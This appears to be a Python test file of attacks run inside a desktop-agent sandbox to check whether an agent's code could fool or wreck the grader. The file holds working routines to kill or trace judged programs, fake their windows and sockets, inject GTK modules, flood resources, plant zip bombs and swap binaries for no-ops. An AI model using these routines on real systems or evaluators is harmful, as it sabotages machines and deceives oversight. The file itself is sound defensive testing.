"""What attacks do inside the machine. The source of this file is sent there as a code action; nothing here calls it.

Each function tries one thing, swallows what is refused, and prints ``GOT IN`` where it reached what it must not reach.
What must outlast the action is a program of its own: forks of the action's interpreter end with it.
"""

from __future__ import annotations

import contextlib
import ctypes
import os
import shutil
import signal
import subprocess
import sys
import time
import traceback
from collections.abc import Callable, Iterator
from pathlib import Path

DESKTOP = ("Xvfb", "openbox", "dbus-daemon", "at-spi-bus-laun", "at-spi2-registr")
"""The names of the processes that the desktop consists of."""
HOME = Path("/home/user")
FLOOD_SECONDS = 8.0


def got_in(what: str) -> None:
    """Say that something was reached that no agent may reach."""
    print(f"GOT IN: {what}")


def run(function: Callable[..., None], arguments: dict[str, object]) -> None:
    """Call a function; a mistake of its own must not look like an attack that failed."""
    try:
        function(**arguments)
    except Exception:
        traceback.print_exc()
        print("THE ATTACK IS BROKEN")


def own_pids() -> Iterator[tuple[int, str]]:
    """Number and name of each process of this user, but for this one and those that it comes from."""
    family, pid = set(), os.getpid()
    while pid > 1:
        family.add(pid)
        pid = int(Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[1])
    for entry in Path("/proc").iterdir():
        with contextlib.suppress(OSError):
            if entry.name.isdecimal() and entry.stat().st_uid == os.getuid() and int(entry.name) not in family:
                yield int(entry.name), (entry / "comm").read_text().strip()


def programs() -> list[int]:
    """The judged programs: all processes of this user that are neither the desktop's nor the code executor's."""
    return [pid for pid, name in own_pids() if name not in DESKTOP and "boot.py" not in command_line(pid)]


def command_line(pid: int) -> str:
    """Program and arguments of a process; "" when it is gone."""
    with contextlib.suppress(OSError):
        return Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode("utf-8", "replace")
    return ""


def send(number: int, pids: list[int]) -> None:
    """Send a signal to processes."""
    for pid in pids:
        with contextlib.suppress(OSError):
            os.kill(pid, number)


def stay(call: str, wait: float = 5.0) -> None:
    """Run a call of this file in a program that outlasts the action, and wait until it says that it is there."""
    import Xlib

    with open("/tmp/inside.py", "w") as file:
        file.write(SOURCE)
    paths = [*sys.path, os.path.dirname(os.path.dirname(Xlib.__file__)), "/tmp"]
    environment = {**os.environ, "PYTHONPATH": os.pathsep.join(path for path in paths if path)}
    code = f"import inside\ninside.{call}\n"
    child = subprocess.Popen(
        [sys.executable, "-c", code], env=environment, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, bufsize=0,
        start_new_session=True,
    )  # fmt: skip
    assert child.stdout is not None
    os.set_blocking(child.stdout.fileno(), False)
    end, said = time.monotonic() + wait, b""
    while time.monotonic() < end and b"there" not in said and child.poll() is None:
        said += child.stdout.read() or b""
        time.sleep(0.02)
    if b"Traceback" in said:
        raise RuntimeError(said.decode())


# --- programs


def kill_programs() -> None:
    """End the judged programs."""
    send(signal.SIGKILL, programs())


def freeze_programs() -> None:
    """Stop the judged programs: they are there, and never answer."""
    send(signal.SIGSTOP, programs())


def kill_desktop(number: int = signal.SIGKILL) -> None:
    """End, or stop, window manager, buses and registry."""
    send(number, [pid for pid, name in own_pids() if name in DESKTOP])


def kill_everything() -> None:
    """End all processes of this user, this one too."""
    os.kill(-1, signal.SIGKILL)


def relaunch(preload: bool) -> None:
    """End the judged programs, and start the first of them anew, maybe with a library in it."""
    pids = programs()
    argv = Path(f"/proc/{min(pids)}/cmdline").read_bytes().rstrip(b"\0").split(b"\0") if pids else []
    send(signal.SIGKILL, pids)
    if argv:
        library = {"LD_PRELOAD": "libm.so.6"} if preload else {}
        with contextlib.suppress(OSError):
            subprocess.Popen(
                argv, env={**os.environ, **library}, start_new_session=True, stdout=subprocess.DEVNULL,
                stderr=subprocess.DEVNULL,
            )  # fmt: skip
    time.sleep(2.0)


def trace(desktop: bool) -> None:
    """Attach to processes as a debugger does, and open their memory for writing."""
    libc = ctypes.CDLL(None, use_errno=True)
    targets = [(pid, name) for pid, name in own_pids() if name in DESKTOP] if desktop else [
        (pid, command_line(pid).split(" ")[0].rpartition("/")[2]) for pid in programs()
    ]  # fmt: skip
    for pid, name in targets:
        with contextlib.suppress(OSError), open(f"/proc/{pid}/mem", "r+b"):
            got_in(f"the memory of {name} can be written")
        if libc.ptrace(16, pid, None, None) == 0:  # PTRACE_ATTACH
            os.waitpid(pid, 0x40000000)  # __WALL
            libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
            got_in(f"{name} can be traced")


def impostor(names: list[str], texts: list[str]) -> None:
    """End the judged programs; show a window of the same name, of a program of the same name, with these texts."""
    name = names[0]
    send(signal.SIGKILL, programs())
    code = f"""
import ctypes, gi
gi.require_version("Gtk", "3.0")
from gi.repository import GLib, Gtk
GLib.set_prgname({name!r}); GLib.set_application_name({name!r})
ctypes.CDLL(None).prctl(15, {name.encode()!r}, 0, 0, 0)
window, box = Gtk.Window(title={name!r}), Gtk.Box(orientation=Gtk.Orientation.VERTICAL)
for text in {texts!r}:
    box.add(Gtk.Label(label=text)); box.add(Gtk.Entry(text=text))
window.add(box); window.show_all(); Gtk.main()
"""
    subprocess.Popen(["/usr/bin/python3", "-c", code], start_new_session=True, stderr=subprocess.DEVNULL)
    time.sleep(3.0)


MODULE = """
void *gtk_window_new(int), *gtk_box_new(int, int), *gtk_label_new(const char *), *gtk_entry_new(void);
void gtk_container_add(void *, void *), gtk_entry_set_text(void *, const char *), gtk_widget_show_all(void *);
const char *texts[] = {%s 0};
void gtk_module_init(void *a, void *b) {
    void *window = gtk_window_new(0), *box = gtk_box_new(1, 0), *entry;
    for (const char **text = texts; *text; text++) {
        gtk_container_add(box, gtk_label_new(*text));
        gtk_container_add(box, entry = gtk_entry_new());
        gtk_entry_set_text(entry, *text);
    }
    gtk_container_add(window, box);
    gtk_widget_show_all(window);
}
"""
"""A module of GTK 3 that shows texts in a window of the program that loads it."""


def load_module(texts: list[str]) -> None:
    """Become the manager of XSETTINGS, and name a module, which GTK 3 programs then load; built where a compiler is."""
    quoted = "".join('"' + "".join(f"\\{byte:03o}" for byte in text.encode()) + '",' for text in texts)
    Path("/tmp/module.c").write_text(MODULE % quoted)
    if shutil.which("cc"):
        subprocess.run(["cc", "-shared", "-fPIC", "-o", "/tmp/module.so", "/tmp/module.c"], check=True)
    stay("manage_settings('/tmp/module.so')")
    time.sleep(2.0)


def manage_settings(module: str) -> None:
    """Become the manager of XSETTINGS, whose only setting is Gtk/Modules."""
    import struct

    from Xlib import X, display
    from Xlib.protocol import event

    screen = display.Display()
    root, kind = screen.screen().root, screen.intern_atom("_XSETTINGS_SETTINGS")
    name, value = b"Gtk/Modules", module.encode()
    setting = struct.pack("=BxH12sII", 1, len(name), name, 1, len(value)) + value + bytes(-len(value) % 4)
    window = root.create_window(0, 0, 1, 1, 0, X.CopyFromParent)
    window.change_property(kind, kind, 8, struct.pack("=B3xII", sys.byteorder == "big", 1, 1) + setting)
    manager, selection = screen.intern_atom("MANAGER"), screen.intern_atom("_XSETTINGS_S0")
    window.set_selection_owner(selection, X.CurrentTime)
    message = event.ClientMessage(window=root, client_type=manager, data=(32, [0, selection, window.id, 0, 0]))
    root.send_event(message, event_mask=X.StructureNotifyMask)
    screen.sync()
    print("there", flush=True)
    time.sleep(3600)


def forge_channel(texts: list[str]) -> None:
    """Take over listening ports, Unix sockets and names on the session bus, and answer on them."""
    send(signal.SIGKILL, programs())
    stay(f"answer({listening()!r}, {texts!r})")


def listening() -> list[int]:
    """The ports that someone listens on, and those that services usually have."""
    ports = {3000, 5000, 5432, 8000, 8080, 8088, 8888}
    for line in Path("/proc/net/tcp").read_text().splitlines()[1:]:
        ports.add(int(line.split()[1].rpartition(":")[2], 16))
    return sorted(ports)


def answer(ports: list[int], texts: list[str]) -> None:
    """Listen on ports and on what were others' sockets; whoever comes gets all texts."""
    import selectors
    import socket

    waiting = selectors.DefaultSelector()
    addresses: list[tuple[int, object]] = [(socket.AF_INET, ("127.0.0.1", port)) for port in ports]
    for folder in (Path("/tmp"), Path(os.environ["XDG_RUNTIME_DIR"]), HOME):
        with contextlib.suppress(OSError):
            addresses += [(socket.AF_UNIX, str(path)) for path in folder.iterdir() if path.is_socket()]
    for family, address in addresses:
        with contextlib.suppress(OSError):
            if isinstance(address, str):
                os.unlink(address)
            server = socket.socket(socket.AddressFamily(family))
            for option in (socket.SO_REUSEADDR, socket.SO_REUSEPORT):
                server.setsockopt(socket.SOL_SOCKET, option, 1)
            server.bind(address)  # type: ignore[arg-type]
            server.listen()
            waiting.register(server, selectors.EVENT_READ)
    print("there", flush=True)
    body = "\n".join(texts).encode()
    head = f"HTTP/1.0 200 OK\r\nContent-Type: text/html\r\nContent-Length: {len(body)}\r\n\r\n".encode()
    while waiting.get_map():
        for key, _ in waiting.select():
            with contextlib.suppress(OSError):
                client, _ = key.fileobj.accept()  # type: ignore[union-attr]
                client.sendall(head + body)
                client.close()
    time.sleep(3600)


# --- windows


def hide(how: str) -> None:
    """Make the programs' windows unreadable in one of several ways."""
    from Xlib import X, Xutil, display
    from Xlib.protocol import event

    screen = display.Display()
    root = screen.screen().root
    found = root.get_full_property(screen.intern_atom("_NET_CLIENT_LIST"), X.AnyPropertyType)
    for number in found.value if found else ():
        window = screen.create_resource_object("window", number)
        if how == "minimise":
            data = (32, [Xutil.IconicState, 0, 0, 0, 0])
            change = event.ClientMessage(window=window, client_type=screen.intern_atom("WM_CHANGE_STATE"), data=data)
            root.send_event(change, event_mask=X.SubstructureRedirectMask | X.SubstructureNotifyMask)
        elif how == "move":
            window.configure(x=-9000, y=-9000)
        elif how == "shrink":
            window.configure(width=1, height=1)
        elif how == "unmap":
            window.unmap()
        elif how == "destroy":
            window.destroy()
        elif how == "kill":
            window.kill_client()
    screen.sync()
    screen.close()
    if how == "cover":
        stay("cover()")
    time.sleep(0.5)


def cover() -> None:
    """Cover the whole screen, and stay on top."""
    from Xlib import X, display

    screen = display.Display()
    size = screen.screen()
    window = size.root.create_window(
        0, 0, size.width_in_pixels, size.height_in_pixels, 0, X.CopyFromParent, override_redirect=True,
        background_pixel=size.white_pixel,
    )  # fmt: skip
    window.map()
    print("there", flush=True)
    while True:
        window.configure(stack_mode=X.Above)
        screen.sync()
        time.sleep(0.05)


def grab(what: str) -> None:
    """Grab the X server, the pointer or the keyboard, and never let go."""
    stay(f"hold({what!r})")


def hold(what: str) -> None:
    """Hold a grab."""
    from Xlib import X, display

    screen = display.Display()
    root = screen.screen().root
    if what == "server":
        screen.grab_server()
    elif what == "pointer":
        root.grab_pointer(False, 0, X.GrabModeSync, X.GrabModeSync, root, X.NONE, X.CurrentTime)
    else:
        root.grab_keyboard(False, X.GrabModeSync, X.GrabModeSync, X.CurrentTime)
    screen.sync()
    print("there", flush=True)
    time.sleep(3600)


# --- floods


def until_refused(take: Callable[[], object], most: int) -> list[object]:
    """Take something again and again until it is refused, or for a while."""
    taken: list[object] = []
    end = time.monotonic() + FLOOD_SECONDS
    with contextlib.suppress(OSError, RuntimeError):
        while len(taken) < most and time.monotonic() < end:
            taken.append(take())
    return taken


def flood_processes() -> None:
    """Start programs until no more can be started."""
    until_refused(lambda: subprocess.Popen(["sleep", "3600"], start_new_session=True), 5000)


def flood_windows() -> None:
    """Show windows until no more can be shown."""
    stay("windows(2000)", 10.0)


def windows(count: int) -> None:
    """Show small windows, and keep them."""
    from Xlib import X, display

    screen = display.Display()
    size = screen.screen()
    for k in range(count):
        window = size.root.create_window(k % 800, k % 600, 50, 50, 0, X.CopyFromParent)
        window.set_wm_name(f"window {k}")
        window.map()
    screen.sync()
    print("there", flush=True)
    time.sleep(3600)


def flood_disk() -> None:
    """Fill home, /tmp and the runtime folder."""
    for folder in (HOME, Path("/tmp"), Path(os.environ["XDG_RUNTIME_DIR"]), Path("/dev/shm")):
        with contextlib.suppress(OSError), open(folder / "flood", "wb", buffering=0) as file:
            until_refused(lambda file=file: file.write(bytes(1 << 20)), 2048)  # type: ignore[misc]


def flood_output() -> None:
    """Print without end."""
    end = time.monotonic() + 3.0
    while time.monotonic() < end:
        print("x" * 100_000)


def flood_inotify() -> None:
    """Hold all inotify instances that this user may have."""
    stay("inotify()")


def inotify() -> None:
    """Make inotify instances until no more can be made, and hold them."""
    libc = ctypes.CDLL(None, use_errno=True)
    while libc.inotify_init() >= 0:
        pass
    print("there", flush=True)
    time.sleep(3600)


def set_clock() -> None:
    """Set the clock, and give files times of the past and of the future."""
    with contextlib.suppress(OSError):
        time.clock_settime(time.CLOCK_REALTIME, 4102444800)
        got_in("the clock can be set")
    for k, path in enumerate(HOME.rglob("*")):
        with contextlib.suppress(OSError):
            os.utime(path, (0, 0) if k % 2 else (4102444800, 4102444800))


# --- files


def plant(kind: str, paths: list[str]) -> None:
    """Put something else in the place of files."""
    for name in paths:
        path = Path(name)
        if kind == "touched":
            path.parent.mkdir(parents=True, exist_ok=True)
            path.touch()
            continue
        with contextlib.suppress(OSError):
            shutil.rmtree(path) if path.is_dir() else path.unlink()
        path.parent.mkdir(parents=True, exist_ok=True)
        plant_one(kind, path)


def plant_one(kind: str, path: Path) -> None:
    """Make a file of some kind."""
    if kind == "empty":
        path.write_bytes(b"")
    elif kind == "of another kind":
        path.write_bytes(b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + bytes(range(256)))
    elif kind == "a folder":
        (path / "inner").mkdir(parents=True)
    elif kind == "a FIFO":
        os.mkfifo(path)
    elif kind == "a zip bomb":
        bomb(path)
    elif kind == "1 TB of nothing":
        with contextlib.suppress(OSError), open(path, "wb") as file:
            file.truncate(1 << 40)
    elif kind == "unreadable":
        path.write_bytes(b"x")
        path.chmod(0)
    else:
        path.symlink_to(path.name if kind == "a link to itself" else kind.removeprefix("a link to "))


def bomb(path: Path) -> None:
    """A workbook of 2 GB, in 2 MB."""
    import zipfile

    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in ("[Content_Types].xml", "xl/workbook.xml", "content.xml", "xl/worksheets/sheet1.xml"):
            with archive.open(name, "w", force_zip64=True) as member:
                for _ in range(128):
                    member.write(bytes(4 << 20))


def write_all(paths: list[str], text: str) -> None:
    """Write a text into each file."""
    for name in paths:
        path = Path(name)
        with contextlib.suppress(OSError):
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(text)


def replace_binaries(names: list[str]) -> None:
    """Put programs that do nothing wherever programs are looked for, and aliases."""
    tools = ["python3", "soffice", "sqlite3", "psql", "sh", "cat", "stat", "ls", "xprop", "xdotool"]
    folders = [*os.environ["PATH"].split(":"), "/opt/deskgym/python/bin"]
    for folder in map(Path, [*folders, "/home/user/.local/bin", "/home/user/bin"]):
        for name in [*names, *tools]:
            with contextlib.suppress(OSError):
                if folder.is_relative_to(HOME):
                    folder.mkdir(parents=True, exist_ok=True)
                (folder / name).write_text("#!/bin/sh\nexit 0\n")
                (folder / name).chmod(0o755)
                if not folder.is_relative_to(HOME):
                    got_in(f"{folder / name} can be written")
    for name in (".bashrc", ".profile", ".bash_aliases", ".xprofile"):
        (HOME / name).write_text("".join(f"alias {tool}=true\n" for tool in [*names, *tools]) + "exit 0\n")


def edit_configuration() -> None:
    """Spoil all settings, and have every Python of this user end at its start."""
    for folder in (HOME / ".config", HOME / ".local"):
        for path in list(folder.rglob("*")):
            with contextlib.suppress(OSError):
                if path.is_file():
                    path.write_bytes(b"\0spoilt")
    for version in (9, 10, 11, 12, 13, 14):
        site = HOME / f".local/lib/python3.{version}/site-packages"
        site.mkdir(parents=True, exist_ok=True)
        for name in ("sitecustomize.py", "usercustomize.py"):
            (site / name).write_text("import os\nos._exit(0)\n")
    for root in map(Path, ("/opt/deskgym", "/etc", "/usr", "/run/deskgym")):
        for entry in [root, *root.glob("*")]:
            if os.access(entry, os.W_OK) and not entry.is_symlink():
                got_in(f"{entry} can be written")


SOURCE = ""
"""This file's own text, for ``stay``."""
